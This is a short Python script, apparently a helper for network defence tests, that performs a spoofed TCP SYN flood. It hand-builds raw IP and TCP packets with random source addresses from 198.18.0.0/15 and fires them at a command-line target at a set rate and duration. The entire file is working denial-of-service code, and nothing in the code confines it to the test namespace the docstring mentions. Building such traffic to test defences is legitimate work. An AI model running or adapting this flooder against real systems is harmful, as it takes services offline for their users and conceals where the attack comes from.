"""A spoofed SYN flood for ShieldNetTest and ScannersNetTest: from 198.18.0.0/15, in a namespace of the test's own only."""
import random
import socket
import struct
import sys
import time


def checksum(data):
    total = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff


def syn(target):
    source = struct.pack('!I', (198 << 24 | 18 << 16) + random.randrange(1 << 17))
    to = socket.inet_aton(target)
    head = struct.pack('!HHIIBBHHH', random.randrange(1024, 65536), 80, random.getrandbits(32), 0, 96, 2, 64240, 0, 0)
    head += struct.pack('!BBH', 2, 4, 1460)
    total = checksum(source + to + struct.pack('!HH', 6, len(head)) + head)
    head = head[:16] + struct.pack('!H', total) + head[18:]
    return struct.pack('!BBHHHBBH4s4s', 69, 0, 44, 0, 0, 64, 6, 0, source, to) + head


target, rate, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
packets = [syn(target) for _ in range(20000)]
sent = 0
begin = time.monotonic()
print('flooding', flush=True)
while time.monotonic() - begin < seconds:
    for _ in range(max(1, rate // 200)):
        s.sendto(packets[sent % len(packets)], (target, 0))
        sent += 1
    time.sleep(max(0, begin + sent / rate - time.monotonic()))
print('sent', sent, flush=True)
